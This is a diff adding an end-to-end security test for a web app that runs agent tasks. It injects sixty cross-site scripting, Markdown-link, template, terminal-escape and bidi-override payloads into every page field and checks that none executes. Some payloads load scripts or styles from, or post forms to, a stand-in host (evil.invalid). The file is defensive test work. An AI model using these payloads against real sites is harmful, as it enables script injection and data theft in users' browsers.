@@ -1,0 +1,175 @@
+// Everything an agent or a stranger can put on the page is text: names of files, titles, answers,
+// output, documents. Sixty payloads are shown in every place; nothing runs, nothing is loaded, and
+// nothing leaves its place.
+import { afterAll, beforeAll, describe, expect, test } from "vitest";
+import { escape, escapeWord } from "../../src/agents/sample/language.ts";
+import { type PageWorld, noteType, pageWorld, program } from "./world.ts";
+
+const run = "window.pwned=1";
+const tags = [
+  "img src=x",
+  "svg",
+  "body",
+  "video src=x",
+  "details open ontoggle=0",
+  "iframe",
+  "input autofocus",
+];
+const events = ["onerror", "onload", "onfocus", "ontoggle", "onmouseover"];
+
+/** Each a different way in: tags, attributes, addresses, Markdown, entities, terminals, templates. */
+const payloads: readonly string[] = [
+  `<script>${run}</script>`,
+  `"><script>${run}</script>`,
+  `'><script>${run}</script>`,
+  `</title><script>${run}</script>`,
+  `</textarea><script>${run}</script>`,
+  `<scr<script>ipt>${run}</script>`,
+  `<SCRIPT SRC=//evil.invalid/x.js></SCRIPT>`,
+  `<svg><script>${run}</script></svg>`,
+  `<math><mi//xlink:href="data:x,<script>${run}</script>">`,
+  `<a href="javascript:${run}">a</a>`,
+  `[a](javascript:${run})`,
+  `[a](JaVaScRiPt:${run})`,
+  `[a](data:text/html,<script>${run}</script>)`,
+  `[a](vbscript:${run})`,
+  `![a](x"onerror="${run})`,
+  `![a](https://evil.invalid/pixel.png)`,
+  `<javascript:${run}>`,
+  `[a]: javascript:${run}`,
+  `&lt;script&gt;${run}&lt;/script&gt;`,
+  `&#60;script&#62;${run}&#60;/script&#62;`,
+  `\\u003cscript\\u003e${run}`,
+  `\${${run}}`,
+  `#{${run}}`,
+  `<%= ${run} %>`,
+  `<style>@import "//evil.invalid/x.css";</style>`,
+  `<link rel=stylesheet href=//evil.invalid/x.css>`,
+  `<base href=//evil.invalid/>`,
+  `<meta http-equiv=refresh content="0;url=//evil.invalid/">`,
+  `<form action=//evil.invalid/><button>send</button></form>`,
+  `<object data=//evil.invalid/x.swf></object>`,
+  `<embed src=//evil.invalid/x.swf>`,
+  `<iframe srcdoc="<script>parent.pwned=1</script>"></iframe>`,
+  `<template><script>${run}</script></template>`,
+  `<noscript><p title="</noscript><img src=x onerror=${run}>">`,
+  `<!--><img src=x onerror=${run}>-->`,
+  `\u001b]8;;javascript:${run}\u0007a\u001b]8;;\u0007`,
+  `\u001b]0;${run}\u0007title`,
+  `\u001b[2J\u001b[H${run}`,
+  `\u001b[38;2;255;0;0mred\u001b[0m`,
+  `\u001bPq#0;2;0;0;0\u001b\\sixel`,
+  `\u202Egnp.exe\u202C`,
+  `\u2066hidden\u2069`,
+  `__proto__`,
+  `constructor`,
+  ...tags.flatMap((tag, at) => [
+    `<${tag} ${events[at % events.length] ?? "onload"}=${run}>`,
+    `"><${tag} ${events[(at + 1) % events.length] ?? "onload"}="${run}">`,
+  ]),
+  `<p style="background:url(//evil.invalid/x)">p</p>`,
+  `x" onclick="${run}" data-x="`,
+];
+
+describe.skipIf(program === undefined)(
+  "S6.6 what strangers write is text everywhere on the page",
+  () => {
+    let world: PageWorld;
+    const paths = payloads
+      .slice(0, 24)
+      .map((payload, at) => `docs/${at} ${payload.replaceAll(/[/\0\n]/g, "_").slice(0, 80)}.md`);
+    beforeAll(async () => {
+      world = await pageWorld(noteType);
+      await world.serve();
+    });
+    afterAll(() => world.endAll());
+
+    test("60 payloads as titles, questions, options, answers, output, file names and documents: none runs", async () => {
+      expect(payloads.length).toBe(60);
+      const text = payloads.map((payload) => payload.replaceAll("\u001b", "")).join("\n\n");
+      const script = [
+        ...payloads.map((payload) => `say ${escape(payload)}`),
+        `ask choice ${escape(`Which? ${payloads.slice(0, 6).join(" ")}`)} | ${escape(payloads[0] ?? "")} | ${escape(payloads[46] ?? "")}`,
+        ...paths.map((path) => `write ${escapeWord(path)} ${escape(text)}`),
+        `write docs/note.md ${escape(`# Note\n\n${text}`)}`,
+        "phase 1 docs/note.md",
+      ].join("\n");
+      const ids: string[] = [];
+      for (const [at, payload] of payloads.entries()) {
+        const body = {
+          type: "note",
+          title: `${at} ${payload}`,
+          description: payload,
+          agent: "sample",
+        };
+        const made = await world.call("/api/tasks", {
+          body: at === 0 ? { ...body, script, submit: true } : body,
+        });
+        expect(made.status).toBe(200);
+        ids.push(String(made.json["id"]));
+      }
+      const [id = ""] = ids;
+      await world.until(
+        `/api/tasks/${id}`,
+        ({ questions }: { questions: string[] }) => questions.length > 0,
+      );
+
+      const { page, wrong, context } = await world.visit("/");
+      const isHurt = (): Promise<unknown> =>
+        page.evaluate(`window.pwned ?? document.querySelectorAll(
+        "script:not([src^='/assets/']), iframe, object, embed, base, form, style, meta[http-equiv], img").length`);
+      await page.getByRole("region", { name: "Inbox" }).getByText("Which?").waitFor();
+      expect(await isHurt()).toBe(0);
+      const answer = payloads[46] ?? "";
+      await page
+        .getByRole("region", { name: "Inbox" })
+        .getByRole("button")
+        .filter({ hasText: answer.slice(0, 12) })
+        .first()
+        .click();
+      await page.getByText(/^Sent: /).waitFor();
+      const places = [
+        ["/board", "a[data-card]"],
+        ["/board?view=list", "[role=row]"],
+        [`/t/${id}/overview`, "main section"],
+        [`/t/${id}/output`, "[role=log] p"],
+        [`/t/${id}/history`, "[role=listitem]"],
+        [`/t/${id}/snapshots`, "main li"],
+      ] as const;
+      for (const [path, there] of places) {
+        await page.goto(world.server.url + path);
+        await page.locator(there).first().waitFor();
+        expect({ path, hurt: await isHurt() }).toEqual({ path, hurt: 0 });
+      }
+
+      await world.until(
+        `/api/tasks/${id}`,
+        ({ reviews }: { reviews: string[] }) => reviews.length > 0,
+      );
+      for (const tab of ["output", "files"]) {
+        await page.goto(`${world.server.url}/t/${id}/${tab}`);
+        await page.getByRole("heading", { level: 1, name: /^0 <script>/ }).waitFor();
+        expect(await isHurt()).toBe(0);
+      }
+      await page.goto(`${world.server.url}/t/${id}/review`);
+      await page.getByText("Checked by the engine").waitFor();
+      const files = await page.getByRole("complementary").getByRole("button").all();
+      expect(files.length).toBeGreaterThan(paths.length);
+      for (const file of files) {
+        await file.click();
+        expect(await isHurt()).toBe(0);
+      }
+      // As a document: no link leads anywhere but to the web, and none of these does.
+      await page.getByRole("button", { name: "note.md docs", exact: true }).click();
+      await page.getByRole("button", { name: "Document", exact: true }).click();
+      await page.locator(".prose").waitFor();
+      const links = await page.evaluate(
+        "[...document.querySelectorAll('.prose a[href]')].map((link) => link.protocol)",
+      );
+      expect(links).not.toContain("javascript:");
+      expect(await isHurt()).toBe(0);
+      expect(wrong).toEqual([]);
+      await context.close();
+    });
+  },
+);
